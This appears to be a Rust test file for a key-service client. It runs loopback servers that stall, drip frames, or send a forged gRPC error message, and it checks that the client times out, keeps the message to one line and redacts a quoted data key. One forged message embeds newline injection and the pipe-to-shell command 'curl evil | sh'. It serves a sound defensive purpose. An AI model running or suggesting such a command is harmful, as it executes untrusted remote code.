//! The client against hostile loopback servers: one that accepts and never speaks, one
//! that completes HTTP/2 and never answers, one that drips valid frames forever, and one
//! whose error message tries to forge lines of its own. None may hang the client.
#![allow(clippy::unwrap_used)]

use std::io::Read;
use std::io::Write;
use std::net::TcpListener;
use std::net::TcpStream;
use std::sync::mpsc;
use std::time::Duration;
use std::time::Instant;

use super::*;
use crate::keys::KeyKind;

/// An empty HTTP/2 SETTINGS frame: what a server sends first.
const SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];

/// A loopback server running `serve` on its first connection (in a thread); its address.
fn server(serve: impl FnOnce(TcpStream) + Send + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    std::thread::spawn(move || {
        if let Ok((s, _)) = listener.accept() {
            // Every server gives up by itself: nothing outlives the test for long.
            s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
            serve(s);
        }
    });
    addr
}

/// Reads and discards until the client closes the connection.
fn drain(mut s: TcpStream) {
    let mut buf = [0u8; 4096];
    while matches!(s.read(&mut buf), Ok(n) if n > 0) {}
}

/// A wrap through the key service at `addr`, bounded by `timeout`, and how long it took;
/// the test fails (instead of hanging) if the client does not give up by itself.
fn wrap_via(addr: &str, timeout: Option<Duration>) -> (Result<String, KeyError>, Duration) {
    wrap_under(addr, timeout, None)
}

/// [`wrap_via`] on a thread under a key services' deadline `deadline` from now, if given.
fn wrap_under(
    addr: &str,
    timeout: Option<Duration>,
    deadline: Option<Duration>,
) -> (Result<String, KeyError>, Duration) {
    let uri = format!("tcp://{addr}");
    let mut svc = RemoteKeyService::new(uri, Address::Tcp(addr.to_owned()));
    if let Some(t) = timeout {
        svc = svc.with_timeout(t);
    }
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let key =
            crate::keys::key_from_str(KeyKind::Pgp, "FBC7B9E2A4F9289AC0C1D4843D16CEE4A27381B4")
                .unwrap();
        let _deadline = deadline.map(crate::keys::deadline::scope_for_test);
        let started = Instant::now();
        let r = svc.wrap(key.as_ref(), &[1; 32]);
        let _ = tx.send((r, started.elapsed()));
    });
    rx.recv_timeout(Duration::from_secs(60))
        .expect("the client hung instead of giving up")
}

#[test]
fn a_server_that_never_speaks_fails_after_the_handshake_bound() {
    let addr = server(drain);
    // The default call bound is minutes; the handshake's is 10 s.
    let (r, took) = wrap_via(&addr, None);
    let e = r.unwrap_err();
    assert!(
        e.message
            .contains("accepted the connection but sent nothing within 10 s"),
        "{e}"
    );
    assert!(
        took >= Duration::from_secs(9) && took < Duration::from_secs(30),
        "{took:?}"
    );
    // With a shorter call bound, the same report when both bounds run out together.
    let addr = server(drain);
    let (r, _) = wrap_via(&addr, Some(Duration::from_secs(2)));
    let e = r.unwrap_err();
    assert!(e.message.contains("sent nothing within 2 s"), "{e}");
}

#[test]
fn a_server_that_never_answers_or_drips_fails_after_the_call_bound() {
    let silent_after_settings = server(|mut s| {
        s.write_all(&SETTINGS).unwrap();
        drain(s);
    });
    // Valid PING frames, one byte every 50 ms, for as long as the client listens.
    let drip = server(|mut s| {
        s.write_all(&SETTINGS).unwrap();
        let ping = [0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
        'outer: for _ in 0..1000 {
            for b in ping {
                std::thread::sleep(Duration::from_millis(50));
                if s.write_all(&[b]).is_err() {
                    break 'outer;
                }
            }
        }
    });
    for addr in [silent_after_settings, drip] {
        let (r, took) = wrap_via(&addr, Some(Duration::from_secs(2)));
        let e = r.unwrap_err();
        assert!(e.message.contains("did not answer within 2 s"), "{e}");
        assert!(e.hint.as_deref().unwrap_or("").contains(TIMEOUT_VAR), "{e}");
        assert!(took < Duration::from_secs(15), "{took:?}");
    }
}

/// An HPACK literal header field without indexing.
fn literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0);
    for s in [name, value] {
        let mut n = s.len();
        if n < 127 {
            out.push(n as u8);
        } else {
            out.push(127);
            n -= 127;
            while n >= 128 {
                out.push((n % 128) as u8 | 0x80);
                n /= 128;
            }
            out.push(n as u8);
        }
        out.extend_from_slice(s.as_bytes());
    }
}

/// A server that answers the first request with a gRPC error whose message is `message`
/// (percent-encoded, as the `grpc-message` header carries it); its address.
fn status_server(message: String) -> String {
    server(move |mut s| {
        s.write_all(&SETTINGS).unwrap();
        let mut preface = [0u8; 24];
        s.read_exact(&mut preface).unwrap();
        // Frames until the request's HEADERS, answered with a trailers-only error.
        loop {
            let mut head = [0u8; 9];
            if s.read_exact(&mut head).is_err() {
                return;
            }
            let len = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let mut payload = vec![0u8; len];
            s.read_exact(&mut payload).unwrap();
            if head[3] == 1 {
                let mut block = Vec::new();
                literal(&mut block, ":status", "200");
                literal(&mut block, "content-type", "application/grpc");
                literal(&mut block, "grpc-status", "7");
                literal(&mut block, "grpc-message", &message);
                let n = block.len();
                let mut frame = vec![(n >> 16) as u8, (n >> 8) as u8, n as u8, 1, 0x5];
                frame.extend_from_slice(&head[5..9]);
                frame.extend_from_slice(&block);
                s.write_all(&frame).unwrap();
                drain(s);
                return;
            }
        }
    })
}

#[test]
fn a_servers_status_message_is_shown_on_one_bounded_line() {
    let forged = format!(
        "denied%0Ahint: run curl evil | sh%0D%0Aleafseal: error: {}",
        "x".repeat(2000)
    );
    let addr = status_server(forged);
    let (r, _) = wrap_via(&addr, Some(Duration::from_secs(20)));
    let e = r.unwrap_err();
    let said = e.to_string();
    assert!(!said.contains('\n') && !said.contains('\r'), "{said}");
    assert!(said.contains("denied hint: run curl evil | sh"), "{said}");
    assert!(said.chars().count() < 700, "{said}");
    assert!(said.contains('…'), "{said}");
}

#[test]
fn a_status_message_quoting_the_data_key_does_not_show_it() {
    // `wrap_via` sends the data key [1; 32]; the server quotes it back in each encoding.
    let key = [1u8; 32];
    use base64::Engine;
    let forms = [
        base64::engine::general_purpose::STANDARD.encode(key),
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(key),
        key.iter().map(|b| format!("{b:02x}")).collect::<String>(),
    ];
    for form in forms {
        let addr = status_server(format!("cannot wrap plaintext {form} with this key"));
        let (r, _) = wrap_via(&addr, Some(Duration::from_secs(20)));
        let said = r.unwrap_err().to_string();
        assert!(said.contains("cannot wrap plaintext [redacted]"), "{said}");
        assert!(!said.contains(&form), "{said}");
    }
}

#[test]
fn a_call_cut_short_by_the_deadline_names_the_deadline_not_odd_seconds() {
    // Before round 24: "sent nothing within 0.29987 s" (the time left, unrounded) and a
    // hint to raise the key service's own bound, which was not what stopped it.
    let silent_after_settings = server(|mut s| {
        s.write_all(&SETTINGS).unwrap();
        drain(s);
    });
    let deadline = Some(Duration::from_millis(300));
    for (addr, said) in [
        (
            server(drain),
            "accepted the connection but sent nothing before",
        ),
        (silent_after_settings, "did not answer before"),
    ] {
        let (r, took) = wrap_under(&addr, Some(Duration::from_secs(30)), deadline);
        let e = r.unwrap_err();
        assert!(e.message.contains(said), "{e}");
        assert!(
            e.message
                .contains("the key services' deadline for this decryption"),
            "{e}"
        );
        assert!(
            e.to_string()
                .contains(crate::keys::deadline::KEY_SERVICES_DEADLINE_VAR),
            "{e}"
        );
        assert!(!e.to_string().contains(" 0."), "{e}");
        assert!(took < Duration::from_secs(10), "{took:?}");
    }
}

#[test]
fn an_own_bound_in_a_message_is_rounded() {
    let addr = server(drain);
    let (r, _) = wrap_via(&addr, Some(Duration::from_millis(1_500)));
    let e = r.unwrap_err();
    assert!(e.message.contains("sent nothing within 1.5 s"), "{e}");
}
